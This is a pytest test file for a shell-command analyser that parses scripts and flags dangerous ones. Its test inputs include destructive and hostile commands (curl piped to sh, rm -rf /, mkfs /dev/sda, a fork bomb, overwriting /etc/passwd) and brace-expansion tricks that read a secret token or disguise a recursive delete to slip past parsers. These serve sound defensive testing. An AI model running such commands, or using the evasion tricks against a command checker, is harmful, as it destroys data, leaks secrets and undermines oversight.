"""The tree walk: what SimpleCommand records a script turns into."""

from __future__ import annotations

import shlex

import pytest

from tether.governance.context import AnalysisContext
from tether.governance.findings import Severity
from tether.governance.paths import DYNAMIC
from tether.governance.rules import Rule
from tether.governance.shell_analysis import analyze_shell
from tether.governance.shell_parse import (
    MAX_COMMANDS,
    MAX_DEPTH,
    MAX_PIPE_NAMES,
    SimpleCommand,
    parse_script,
)


def _cmds(script: str, ctx: AnalysisContext) -> list[SimpleCommand]:
    return list(parse_script(script, ctx).commands)


def _names(script: str, ctx: AnalysisContext) -> list[str | None]:
    return [c.name for c in _cmds(script, ctx)]


def test_quotes_escapes_and_paths_are_resolved(ctx: AnalysisContext) -> None:
    [cmd] = _cmds("/usr/bin/r''\"m\" -rf 'a b' $'\\x41'", ctx)
    assert cmd.name == "rm"
    assert cmd.args == ("-rf", "a b", "A")


def test_tilde_and_known_variables_expand(ctx: AnalysisContext) -> None:
    [cmd] = _cmds('ls ~ ~/x "$HOME/y" "~" $TETHER_HOME $OTHER', ctx)
    assert cmd.args == ("/home/u", "/home/u/x", "/home/u/y", "~", "/home/u/.tether", DYNAMIC)


def test_every_part_of_lists_and_pipelines_is_seen(ctx: AnalysisContext) -> None:
    names = _names("a; b && c || d & e | f; (g); { h; }; if i; then j; fi; k=$(l) `m`", ctx)
    assert set("abcdefghijlm") <= set(filter(None, names))


def test_pipe_into_and_executed_by(ctx: AnalysisContext) -> None:
    curl, grep, sh = _cmds("curl x | grep y | sh", ctx)
    assert curl.pipe_into == ("grep", "sh")
    assert curl.executed_by == ("sh",)
    assert grep.executed_by == ("sh",)
    assert sh.pipe_into == ()
    json_tool = _cmds("curl x | python3 -m json.tool", ctx)[0]
    assert json_tool.executed_by == ()


def test_substitution_feeding_code_arguments(ctx: AnalysisContext) -> None:
    bash_curl = [c for c in _cmds("bash <(curl x)", ctx) if c.name == "curl"]
    assert bash_curl[0].executed_by == ("bash",)
    echo_curl = [c for c in _cmds('echo "$(curl x)"', ctx) if c.name == "curl"]
    assert echo_curl[0].executed_by == ()
    assert echo_curl[0].pipe_into == ("echo",)


def test_wrappers_are_unwrapped(ctx: AnalysisContext) -> None:
    names = _names("sudo -u root env A=1 nice -n 5 timeout 3 rm -rf x", ctx)
    assert names == ["sudo", "env", "nice", "timeout", "rm"]
    rm = _cmds("sudo -u root env A=1 nice -n 5 timeout 3 rm -rf x", ctx)[-1]
    assert rm.args == ("-rf", "x")


def test_xargs_and_find_exec(ctx: AnalysisContext) -> None:
    rm = _cmds("xargs -0 rm -f", ctx)[-1]
    assert rm.name == "rm" and rm.args == ("-f", DYNAMIC) and rm.stdin_args
    rm = _cmds("echo a b | xargs rm", ctx)[-1]
    assert rm.args == ("a", "b")
    rm = _cmds("find /srv -name x -exec rm -f {} +", ctx)[-1]
    assert rm.name == "rm" and rm.args == ("-f", "/srv")
    assert _names("command -v rm", ctx) == ["command"]


def test_dynamic_names_are_none(ctx: AnalysisContext) -> None:
    assert _names("$X a", ctx)[-1] is None
    assert _names("$(which rm) a", ctx)[-1] is None
    assert _names("x=rm; $x a", ctx)[-1] is None  # even a known value is not trusted


def test_redirects(ctx: AnalysisContext) -> None:
    [cmd] = _cmds("cmd > out.txt 2>&1 < in.txt", ctx)
    assert [(r.op, r.target, r.writes) for r in cmd.redirects] == [
        (">", "out.txt", True),
        ("<", "in.txt", False),
    ]
    [inner] = [c for c in _cmds("{ a; } > /dev/sda", ctx) if c.name == "a"]
    assert inner.redirects[0].target == "/dev/sda"


def test_cd_moves_cwd_and_subshells_restore_it(ctx: AnalysisContext) -> None:
    cmds = _cmds("cd /srv && a; (cd /tmp; b); c; cd $X; d", ctx)
    cwd = {c.name: c.cwd for c in cmds}
    assert cwd["a"] == "/srv"
    assert cwd["b"] == "/tmp"
    assert cwd["c"] == "/srv"
    assert cwd["d"] is None


def test_fork_bomb_is_self_spawning(ctx: AnalysisContext) -> None:
    assert any(c.self_spawning for c in _cmds(":(){ :|:& };:", ctx))
    assert not any(c.self_spawning for c in _cmds("f() { g | h & }; f", ctx))
    assert not any(c.self_spawning for c in _cmds("f() { f; }; f", ctx))


def test_heredoc_to_shell_is_parsed(ctx: AnalysisContext) -> None:
    names = _names("bash <<EOF\nmkfs /dev/sda\nEOF", ctx)
    assert "mkfs" in names
    names = _names("cat <<'EOF' > notes.txt\nmkfs /dev/sda\nEOF", ctx)
    assert "mkfs" not in names  # data, not code


def test_parse_errors_are_flagged(ctx: AnalysisContext) -> None:
    assert parse_script("ls &&& (", ctx).syntax_error
    assert not parse_script("ls && pwd", ctx).syntax_error


def test_unparsable_parts_are_still_analysed(ctx: AnalysisContext, rules: list[Rule]) -> None:
    findings = analyze_shell("rm -rf / &&& (", ctx, rules)
    assert {"shell.parse-error", "rm-recursive-system"} <= {f.rule_id for f in findings}


def test_nesting_depth_limit(ctx: AnalysisContext, rules: list[Rule]) -> None:
    script = "ls"
    for _ in range(MAX_DEPTH + 2):
        script = "bash -c " + shlex.quote(script)
    findings = analyze_shell(script, ctx, rules)
    assert "shell.nesting-too-deep" in {f.rule_id for f in findings}
    shallow = "rm -rf /"
    for _ in range(MAX_DEPTH - 1):
        shallow = "bash -c " + shlex.quote(shallow)
    assert max(f.severity for f in analyze_shell(shallow, ctx, rules)) is Severity.CRITICAL


def test_huge_input_is_not_silently_allowed(ctx: AnalysisContext, rules: list[Rule]) -> None:
    findings = analyze_shell("echo " + "a" * 200_000, ctx, rules)
    assert {f.rule_id for f in findings} == {"shell.too-large"}


def test_findings_are_deduplicated_and_sorted(ctx: AnalysisContext, rules: list[Rule]) -> None:
    findings = analyze_shell("rm -rf /; rm -rf /etc; sudo ls", ctx, rules)
    ids = [f.rule_id for f in findings]
    assert len(ids) == len(set(ids))
    assert [f.severity for f in findings] == sorted((f.severity for f in findings), reverse=True)
    assert "rm -rf /" in findings[0].description


def test_empty_command(ctx: AnalysisContext, rules: list[Rule]) -> None:
    assert analyze_shell("", ctx, rules) == []
    assert analyze_shell("   \n", ctx, rules) == []


def test_download_then_run_tags_the_download(ctx: AnalysisContext) -> None:
    cmds = _cmds("curl -o a.sh http://x && bash ./a.sh", ctx)
    curl = next(c for c in cmds if c.name == "curl")
    assert curl.executed_by == ("bash",)
    cmds = _cmds("curl -o a.sh http://x && cat a.sh", ctx)
    assert next(c for c in cmds if c.name == "curl").executed_by == ()


def test_bare_redirect_is_a_command(ctx: AnalysisContext) -> None:
    [cmd] = _cmds("> /etc/passwd", ctx)
    assert cmd.name == ":" and cmd.redirects[0].target == "/etc/passwd"


def test_remote_commands_have_unknown_cwd(ctx: AnalysisContext) -> None:
    rm = next(c for c in _cmds("ssh -p 22 host rm -rf build", ctx) if c.name == "rm")
    assert rm.cwd is None and rm.args == ("-rf", "build")


def test_a_long_pipeline_is_judged_whole_and_a_wide_one_is_refused(
    ctx: AnalysisContext, rules: list[Rule]
) -> None:
    """Each stage is told the distinct commands downstream of it: a pipeline repeating
    one command is judged in full, however long (every stage's own findings and what
    flows into what); one through more distinct commands than can be checked, or a
    script of more commands, is refused at every level."""
    long = " | ".join(["cat"] * 1000) + " | rm -rf /"
    assert not parse_script(long, ctx).too_wide
    assert "rm-recursive-system" in {f.rule_id for f in analyze_shell(long, ctx, rules)}
    piped = "curl http://x.example | " + " | ".join(["cat"] * 1000) + " | sh"
    assert "download-exec" in {f.rule_id for f in analyze_shell(piped, ctx, rules)}

    wide = " | ".join(f"c{i}" for i in range(MAX_PIPE_NAMES + 1))
    assert parse_script(wide, ctx).too_wide
    many = "echo a; " * (MAX_COMMANDS + 1)
    (finding,) = [f for f in analyze_shell(many, ctx, rules) if f.rule_id == "shell.too-wide"]
    assert finding.severity is Severity.CRITICAL


@pytest.mark.parametrize(
    "command",
    [
        """curl -H 'Content-Type: application/json' -d '[{"id":0,"qty":2}, {"id":1,"qty":2},"""
        """ {"id":2,"qty":2}, {"id":3,"qty":2}, {"id":4,"qty":2}, {"id":5,"qty":2}]' http://x""",
        'python3 -c "rows=[' + ",".join(f"{{'a':{i},'b':2}}" for i in range(8)) + ']"',
        "echo '{" + ",".join(f'"k{i}":{i}' for i in range(300)) + "}' > payload.json",
        "touch f" + "{0,1}" * 10,
        "mkdir -p src/{a,b,c,d}/{e,f,g,h}/{i,j,k,l}/{m,n,o,p}",
        "for a in 1 2; do for b in 1 2; do for c in 1 2; do for d in 1 2; do x=$a; done; done;"
        " done; done",
    ],
)
def test_everyday_commands_with_braces_are_not_refused(
    ctx: AnalysisContext, rules: list[Rule], command: str
) -> None:
    """Braces in quotes (JSON, code) are one word; an unquoted expansion of a thousand
    words is still judged word by word."""
    severities = {f.severity for f in analyze_shell(command, ctx, rules)}
    assert severities <= {Severity.LOW, Severity.MEDIUM}


def test_nested_loops_are_walked_a_bounded_number_of_times(ctx: AnalysisContext) -> None:
    """Each loop binds up to 4 values one by one, and loops nest: past two levels a
    loop is walked once, or eleven levels (a 322-character script) took 28 s."""
    script = "echo body"
    for i in range(11):
        script = f"for v{i} in 1 2 3 4; do {script}; done"
    assert len(parse_script(script, ctx).commands) <= 5 * 5


@pytest.mark.parametrize(
    ("script", "args"),
    [
        # The grammar cuts these words after the "$" (two argument nodes, nothing between).
        ("cat {/tmp/a,$HOME/.tether/token}", ("/tmp/a", "/home/u/.tether/token")),
        ("cat x{$TETHER_HOME/token,}", ("x/home/u/.tether/token", "x")),
        ("cat {/a,$OTHER/b}", ("/a", f"{DYNAMIC}/b")),
        # A "$" in quotes or escaped stays a "$".
        ("echo {/a,\\$HOME/b}", ("/a", "$HOME/b")),
        ("echo {/a,'$'HOME/b}", ("/a", "$HOME/b")),
        # $"..." is a (translated) string, not a variable.
        ('echo $"HOME"/b', ("$HOME/b",)),
        # Braces are expanded before variables: the expansion can put "$" and a name
        # together.
        ("cat {a,$}HOME/.tether/token", ("aHOME/.tether/token", "/home/u/.tether/token")),
        (
            "cat {/t,$}{TETHER_HOME,}/key",
            ("/tTETHER_HOME/key", "/t/key", "/home/u/.tether/key", "$/key"),
        ),
    ],
)
def test_a_word_the_grammar_cut_is_one_word(
    ctx: AnalysisContext, script: str, args: tuple[str, ...]
) -> None:
    [cmd] = _cmds(script, ctx)
    assert cmd.args == args


def test_a_home_after_a_comma_in_braces_is_seen(ctx: AnalysisContext, rules: list[Rule]) -> None:
    findings = analyze_shell("cat {/tmp/a,$HOME/.tether/token}", ctx, rules)
    assert Severity.CRITICAL in {f.severity for f in findings}


@pytest.mark.parametrize(
    ("script", "name"),
    [
        # Braces expand first: the command is "cat", its argument the variable's path.
        ("{cat,$HOME/.tether/token} | tee x", "cat"),
        ("{cat,$HOME/.tether/token}", "cat"),
        # The name itself comes from a variable: never trusted, known value or not.
        ("{$X,a} b", None),
        ("X=rm; {$X,-rf,/}", None),
        ('{"a,$X",b}', None),
        ("$X{a,b} c", None),
    ],
)
def test_a_command_name_from_braces_is_dynamic_only_where_a_variable_makes_it(
    ctx: AnalysisContext, script: str, name: str | None
) -> None:
    assert _cmds(script, ctx)[0].name == name


def test_reading_the_token_through_a_brace_group_in_a_pipe_is_critical(
    ctx: AnalysisContext, rules: list[Rule]
) -> None:
    findings = analyze_shell("{cat,$HOME/.tether/token} | tee x", ctx, rules)
    assert Severity.CRITICAL in {f.severity for f in findings}


@pytest.mark.parametrize(
    ("script", "args"),
    [
        ("sed s/a$/b/ f", ("s/a$/b/", "f")),
        ("sed -e 's/x$/y/' -e s/^$/z/ f", ("-e", "s/x$/y/", "-e", "s/^$/z/", "f")),
        ("echo a$=b", ("a$=b",)),
    ],
)
def test_a_lone_dollar_in_a_word_is_itself_not_a_syntax_error(
    ctx: AnalysisContext, script: str, args: tuple[str, ...]
) -> None:
    """Bash reads a "$" that no name, brace or parenthesis follows as a "$"; the grammar
    marks it an error, which made `sed s/a$/b/ f` a HIGH finding."""
    parsed = parse_script(script, ctx)
    assert not parsed.syntax_error
    assert parsed.commands[0].args == args


@pytest.mark.parametrize("script", ["echo $%", "echo $(", "rm -rf $/", "if then"])
def test_other_errors_around_a_dollar_still_are(ctx: AnalysisContext, script: str) -> None:
    assert parse_script(script, ctx).syntax_error


@pytest.mark.parametrize(
    ("script", "name", "args"),
    [
        # Bash removes the empty words brace expansion makes: the next one is the name.
        ("a=1 {,rm} -rf /", "rm", ("-rf", "/")),
        ("{,rm} -rf /", "rm", ("-rf", "/")),
        ("a=1 {,$X} -rf /", None, ("-rf", "/")),
        ("X=rm; a=1 {,$X} -rf /", None, ("-rf", "/")),
        ("echo {,} a{,b}", "echo", ("a", "ab")),
        # Nothing left at all: a name that cannot be known, not no command.
        ("a=1 {,}", None, ()),
        ("E=; {,$E}", None, ()),
    ],
)
def test_empty_words_of_a_brace_expansion_are_removed(
    ctx: AnalysisContext, script: str, name: str | None, args: tuple[str, ...]
) -> None:
    command = _cmds(script, ctx)[-1]
    assert (command.name, command.args) == (name, args)


@pytest.mark.parametrize("script", ["a=1 {,rm} -rf /", "X=rm; a=1 {,$X} -rf /"])
def test_a_removal_behind_an_empty_brace_word_is_critical(
    ctx: AnalysisContext, rules: list[Rule], script: str
) -> None:
    assert Severity.CRITICAL in {f.severity for f in analyze_shell(script, ctx, rules)}
